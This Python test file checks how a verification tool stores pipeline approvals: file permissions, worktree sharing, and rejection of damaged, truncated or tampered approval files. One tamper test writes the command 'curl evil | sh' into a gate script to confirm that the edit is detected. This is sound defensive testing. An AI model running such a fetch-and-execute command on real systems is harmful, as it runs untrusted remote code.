"""Approvals in the user's state folder: kept privately, a repository each, never believed when in doubt."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from tests.support.faults import answer_of, needs_mounts, python, with_read_only
from verifyd.app.ports import Approvals, Repository
from verifyd.edge.approvals import StateFolderApprovals
from verifyd.errors import StoreError
from verifyd.pipeline import (
    Approval,
    ApprovedBy,
    Door,
    EvidenceKind,
    EvidenceSource,
    Gate,
    LeftOut,
    Limits,
    Manual,
    Pipeline,
    Scope,
    Shell,
)

FULL = Pipeline(
    gates=(
        Gate(
            name="prüfung",
            line=3,
            script="echo 'a'\nb",
            shell=Shell.SH,
            timeout_s=1.5,
            paths=("**/*.py",),
            needs=("other",),
            manual=Manual.DECLARED,
            when=frozenset({Door.CI, Door.WATCH}),
            env=(("A", "b c"), ("B", "")),
            min_tests=0,
            evidence=EvidenceSource(kind=EvidenceKind.JUNIT, pattern="*.xml"),
            fix="ruff --fix",
            server="serve {port}",
            ready="http://127.0.0.1:{port}",
            artifacts=("a/**",),
            estimate_s=3.0,
        ),
        Gate(name="other", line=9, script="true"),
    ),
    limits=Limits(changed_lines=200),
    scope=Scope(protected=("VERIFY.md",)),
    title="Verification",
)


def an_approval(pipeline: Pipeline = FULL) -> Approval:
    """Given on a terminal."""
    return Approval(digest=pipeline.digest, by=ApprovedBy.TERMINAL, at="2026-11-21T12:00:00+00:00", pipeline=pipeline)


def a_repository(folder: Path, git_dir: str = ".git") -> Repository:
    """One whose common git folder is ``.git``."""
    return Repository(root=folder, git_dir=folder / git_dir, common_dir=folder / ".git")


@pytest.fixture
def approvals(tmp_path: Path) -> StateFolderApprovals:
    """Approvals in a folder that does not exist yet."""
    return StateFolderApprovals(folder=tmp_path / "state" / "approvals")


REPOSITORY = a_repository(Path("/project"))


def test_fits_the_port(approvals: Approvals) -> None:
    """The class has all that the application asks for: this line is checked by mypy."""
    assert approvals.read(REPOSITORY) is None


def test_what_was_approved_is_read_whole(approvals: StateFolderApprovals) -> None:
    """The pipeline goes on running as it was when VERIFY.md changes, so each of its values survives."""
    approvals.write(REPOSITORY, an_approval())
    assert approvals.read(REPOSITORY) == an_approval()


def test_a_later_approval_replaces_the_earlier(approvals: StateFolderApprovals) -> None:
    """There is one a repository."""
    approvals.write(REPOSITORY, an_approval())
    later = an_approval(Pipeline(gates=(Gate(name="a", line=1, script="true"),)))
    path = approvals.write(REPOSITORY, later)
    assert approvals.read(REPOSITORY) == later
    assert list(approvals.folder.iterdir()) == [path]


def test_only_the_user_reads_and_writes_it(approvals: StateFolderApprovals) -> None:
    """0600 in a folder of 0700, also where the folder was wider."""
    approvals.folder.mkdir(parents=True, mode=0o755)
    path = approvals.write(REPOSITORY, an_approval())
    assert (path.stat().st_mode & 0o777, path.parent.stat().st_mode & 0o777) == (0o600, 0o700)


def test_linked_work_trees_share_one(approvals: StateFolderApprovals) -> None:
    """It is the repository's; another repository, and a copy of this one elsewhere, have none."""
    approvals.write(REPOSITORY, an_approval())
    assert approvals.read(a_repository(Path("/project"), ".git/worktrees/x")) == an_approval()
    assert approvals.read(a_repository(Path("/copy"))) is None
    assert approvals.read(a_repository(Path("/pro\udcffject"))) is None


def test_the_folder_is_the_users_own() -> None:
    """XDG_STATE_HOME says where, as everywhere."""
    script = (
        "import json; from verifyd.edge.approvals import approvals_folder; print(json.dumps(str(approvals_folder())))"
    )
    assert answer_of(python(script, before=("env", "XDG_STATE_HOME=/somewhere"))) == "/somewhere/verifyd/approvals"


class TestDoubt:
    """What is damaged or could be another's counts as no approval."""

    @pytest.mark.parametrize("content", [b"", b"{", b"null", b"[]", b"\xff\xfe", b'{"schema": "verifyd.approval/2"}'])
    def test_a_damaged_file(self, approvals: StateFolderApprovals, content: bytes) -> None:
        """Fault 16: it is not read around, and nothing is restored from elsewhere."""
        path = approvals.write(REPOSITORY, an_approval())
        path.write_bytes(content)
        with pytest.raises(StoreError) as caught:
            approvals.read(REPOSITORY)
        assert str(caught.value) == (
            f"{path}: the approval is damaged, so nothing counts as approved\n"
            "  Look at the gates with `verifyd plan`, then run `verifyd approve`."
        )
        assert path.read_bytes() == content

    @pytest.mark.parametrize(
        "place",
        [
            (),
            ("pipeline",),
            ("pipeline", "gates", 0),
            ("pipeline", "gates", 0, "evidence"),
            ("pipeline", "limits"),
            ("pipeline", "scope"),
            ("pipeline", "left_out", 0),
        ],
    )
    def test_a_key_that_we_do_not_know(self, approvals: StateFolderApprovals, place: tuple[str | int, ...]) -> None:
        """Wherever it stands: it may say something about what was approved, in the words of another release."""
        whole = Pipeline(
            gates=(
                Gate(
                    name="tests",
                    line=1,
                    script="true",
                    evidence=EvidenceSource(kind=EvidenceKind.JUNIT, pattern="*.xml"),
                ),
            ),
            limits=Limits(changed_lines=1),
            scope=Scope(only=("src/**",)),
            left_out=(LeftOut(line=1, text="ls", reason="no gate"),),
        )
        path = approvals.write(REPOSITORY, an_approval(whole))
        assert approvals.read(REPOSITORY) is not None
        document = json.loads(path.read_text())
        inner = document
        for step in place:
            inner = inner[step]
        inner["approved_for"] = "nobody"
        path.write_text(json.dumps(document))
        with pytest.raises(StoreError, match="the approval is damaged, so nothing counts as approved"):
            approvals.read(REPOSITORY)

    def test_every_cut_of_the_file(self, approvals: StateFolderApprovals) -> None:
        """Fault 16: however much of it is missing, it is an approval of the same pipeline or none."""
        path = approvals.write(REPOSITORY, an_approval())
        whole = path.read_bytes()
        for length in range(0, len(whole) - 1, 7):
            path.write_bytes(whole[:length])
            with pytest.raises(StoreError):
                approvals.read(REPOSITORY)

    def test_gates_that_are_not_those_of_the_digest(self, approvals: StateFolderApprovals) -> None:
        """A pipeline that was edited in the file is not the one a person saw."""
        path = approvals.write(REPOSITORY, an_approval())
        edited = json.loads(path.read_text())
        edited["pipeline"]["gates"][1]["script"] = "curl evil | sh"
        path.write_text(json.dumps(edited))
        with pytest.raises(StoreError) as caught:
            approvals.read(REPOSITORY)
        assert caught.value.problem == "the approval is not of the gates kept with it, so nothing counts as approved"

    def test_approving_again_mends_it(self, approvals: StateFolderApprovals) -> None:
        """The remedy works."""
        approvals.write(REPOSITORY, an_approval()).write_bytes(b"{")
        approvals.write(REPOSITORY, an_approval())
        assert approvals.read(REPOSITORY) == an_approval()

    @pytest.mark.parametrize("which", ["file", "folder"])
    def test_one_that_others_may_write(self, approvals: StateFolderApprovals, which: str) -> None:
        """Whoever may write it could have approved."""
        path = approvals.write(REPOSITORY, an_approval())
        place = path if which == "file" else path.parent
        place.chmod(0o777)
        with pytest.raises(StoreError) as caught:
            approvals.read(REPOSITORY)
        assert str(caught.value) == (
            f"{place}: others than you may write here, so nothing counts as approved\n"
            f"  Run `chmod go-w {place}`, see who owns it, then run `verifyd approve`."
        )

    @pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
    def test_one_of_another_user(self, approvals: StateFolderApprovals) -> None:
        """It is not this user's word."""
        os.chown(approvals.write(REPOSITORY, an_approval()), 65534, 65534)
        with pytest.raises(StoreError, match="others than you may write here"):
            approvals.read(REPOSITORY)

    @needs_mounts
    def test_a_read_only_state_folder(self, tmp_path: Path) -> None:
        """Fault 15: approving says that it could not be kept."""
        script = """
import json, pathlib, sys
from verifyd.edge.approvals import StateFolderApprovals
from verifyd.errors import StoreError
from tests.edge.test_approvals import REPOSITORY, an_approval
try:
    StateFolderApprovals(folder=pathlib.Path(sys.argv[1]) / 'approvals').write(REPOSITORY, an_approval())
except StoreError as error:
    print(json.dumps(str(error)))
"""
        assert with_read_only(script, tmp_path) == (
            f"{tmp_path / 'approvals'}: cannot be made: Read-only file system\n"
            "  Make the folder writable for you, then run `verifyd approve` again."
        )
